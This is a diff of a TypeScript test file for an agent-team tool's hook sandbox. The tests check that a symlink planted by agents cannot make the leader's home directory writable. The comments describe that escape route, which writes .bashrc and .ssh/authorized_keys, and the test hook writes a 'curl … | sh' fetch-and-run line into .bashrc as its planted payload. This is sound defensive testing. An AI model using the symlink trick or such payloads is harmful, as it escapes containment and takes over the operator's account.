@@ -292,43 +292,104 @@ describe.concurrent("a sandboxed gate", () => {
     expect(existsSync("/dev/pi-teams-sandbox-probe")).toBe(false);
   });
 
-  // NOT PREVENTED (a failing test of the hole): a gate's sandbox-write= folder is bound where its path really leads,
-  // a link followed once (runner/run-hook.ts planOf), and only the leader's own folders (state dir, hook-state/,
-  // hook-logs/, hooks dirs, the task API's folder) are shown read-only again inside it. A folder the agents can
-  // replace (one they made in the project or the team dir, `sandbox-write=$PI_TEAMS_TEAM_DIR/reports`) turned
-  // into a link to the leader's home makes that home writable for the gate's tests: under a leader of its own
-  // user, the tests (run as that user) write its `.bashrc`, `.ssh/authorized_keys`, its output log. The link is
-  // the agents' (as root here, owned by another user, as under the recipe); the home is a folder given as the
-  // leader's HOME. A fix needs a link of another user's refused, and the binds checked in the view as built
-  // (a real folder swapped for a link between the plan and the mount is followed by mount too).
-  it.fails("a sandbox-write= folder the agents turned into a link to the leader's home does not make the home writable", async (context) => {
+  // A writable path (the working directory, a sandbox-write= path) is bound where it really leads. A folder the
+  // agents can replace (one they made in the project or the team dir, `sandbox-write=$PI_TEAMS_TEAM_DIR/reports`)
+  // turned into a link to the leader's home would make that home writable for the gate's tests: under a leader of
+  // its own user, the tests (run as that user) would write its `.bashrc`, `.ssh/authorized_keys`, its output log.
+  // A link another user owns on the way is refused: the run does not start (a sandbox set-up failure). The link is
+  // the agents' (as root here, owned by another user, as under the recipe; only root can give a link away).
+  it.skipIf(process.getuid?.() !== 0)(
+    "a sandbox-write= folder the agents turned into a link to the leader's home does not make the home writable",
+    async (context) => {
+      const { expect } = context;
+      const rig = outerRig.scoped(context);
+      const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
+      const work = await testTempDir(context, "sandbox-home-link-");
+      const home = path.join(work, "leader-home");
+      await mkdir(home);
+      await writeFile(path.join(home, ".bashrc"), "# the leader's own\n");
+      const out = path.join(work, "out");
+      await symlink(home, out);
+      await lchown(out, 65534, 65534);
+      const gate = await rig.hook(
+        team,
+        "on_task_completed.sh",
+        [
+          `# pi-teams-hooks: sandbox-write=${out}`,
+          `echo ran > ${q(path.join(work, "ran"))}`,
+          `echo 'curl -s http://127.0.0.1:9/x | sh # planted by the tests' >> ${q(path.join(out, ".bashrc"))}`,
+          "exit 1",
+        ].join("\n"),
+      );
+      const run = await runBin(
+        ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
+        { env: { HOME: home } },
+      );
+      const result = JSON.parse(run.stdout).result as {
+        ran: boolean;
+        outcome: string;
+        errorCode?: string;
+        error?: string;
+      };
+      expect(result).toMatchObject({ ran: false, outcome: "error", errorKind: "spawn", errorCode: "E_SANDBOX_SETUP" });
+      expect(result.error).toMatch(
+        new RegExp(
+          `^${gate}: sandbox-write=${out} goes through ${out}, a symbolic link owned by [^ ]* ?\\(?uid 65534\\)?, not by the leader's user \\(uid 0\\) or root`,
+        ),
+      );
+      expect(result.error?.split("\n")).toHaveLength(1);
+      expect(existsSync(path.join(work, "ran"))).toBe(false);
+      expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");
+
+      // The working directory through the agents' link: the same.
+      const cwdLink = path.join(work, "project");
+      await symlink(home, cwdLink);
+      await lchown(cwdLink, 65534, 65534);
+      await rig.hook(team, "on_task_completed.sh", `echo ran > ${q(path.join(work, "ran"))}\necho x > .bashrc`);
+      const second = await runBin(
+        ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", cwdLink, "--json"],
+        { env: { HOME: home } },
+      );
+      const inCwd = JSON.parse(second.stdout).result as { outcome: string; errorCode?: string; error?: string };
+      expect(inCwd).toMatchObject({ ran: false, outcome: "error", errorCode: "E_SANDBOX_SETUP" });
+      expect(inCwd.error).toContain(
+        `its working directory ${cwdLink} goes through ${cwdLink}, a symbolic link owned by`,
+      );
+      expect(existsSync(path.join(work, "ran"))).toBe(false);
+      expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");
+    },
+  );
+
+  it("a writable path through a link of the leader's own (or root's) is followed, as under one user", async (context) => {
     const { expect } = context;
     const rig = outerRig.scoped(context);
     const team = await rig.team({ tasks: [makeTask({ id: "1", owner: "alice", status: "completed" })] });
-    const work = await testTempDir(context, "sandbox-home-link-");
-    const home = path.join(work, "leader-home");
-    await mkdir(home);
-    await writeFile(path.join(home, ".bashrc"), "# the leader's own\n");
-    const out = path.join(work, "out");
-    await symlink(home, out);
-    if (process.getuid?.() === 0) await lchown(out, 65534, 65534);
+    const work = await testTempDir(context, "sandbox-own-link-");
+    const reports = path.join(work, "reports");
+    await mkdir(reports);
+    // A link to a link, in the team dir (which the gate sees): the walk follows each, from /, and binds the folder.
+    await symlink(reports, path.join(team.teamDir, "reports-link"));
+    const out = path.join(team.teamDir, "out");
+    await symlink("reports-link", out);
     await rig.hook(
       team,
       "on_task_completed.sh",
-      [
-        `# pi-teams-hooks: sandbox-write=${out}`,
-        `echo 'curl -s http://127.0.0.1:9/x | sh # planted by the tests' >> ${q(path.join(out, ".bashrc"))}`,
-        "exit 1",
-      ].join("\n"),
+      [`# pi-teams-hooks: sandbox-write=${out}`, `echo written > ${q(path.join(out, "report"))}`].join("\n"),
     );
-    const run = await runBin(
-      ["run", "task_completed", "--team-dir", team.teamDir, "--task", "1", "--cwd", work, "--json"],
-      {
-        env: { HOME: home },
-      },
-    );
-    expect(JSON.parse(run.stdout).result).toMatchObject({ outcome: expect.not.stringMatching(/^passed$/) });
-    expect(await readFile(path.join(home, ".bashrc"), "utf8")).toBe("# the leader's own\n");
+    const cwd = await testTempDir(context, "sandbox-own-link-cwd-");
+    const run = await runBin([
+      "run",
+      "task_completed",
+      "--team-dir",
+      team.teamDir,
+      "--task",
+      "1",
+      "--cwd",
+      cwd,
+      "--json",
+    ]);
+    expect(JSON.parse(run.stdout).result, run.stderr).toMatchObject({ outcome: "passed", sandbox: "on" });
+    expect(await readFile(path.join(reports, "report"), "utf8")).toBe("written\n");
   });
 
   it("where this machine cannot sandbox, run says so, the log says unavailable, and a gate that requires the sandbox is held, never run", async (context) => {
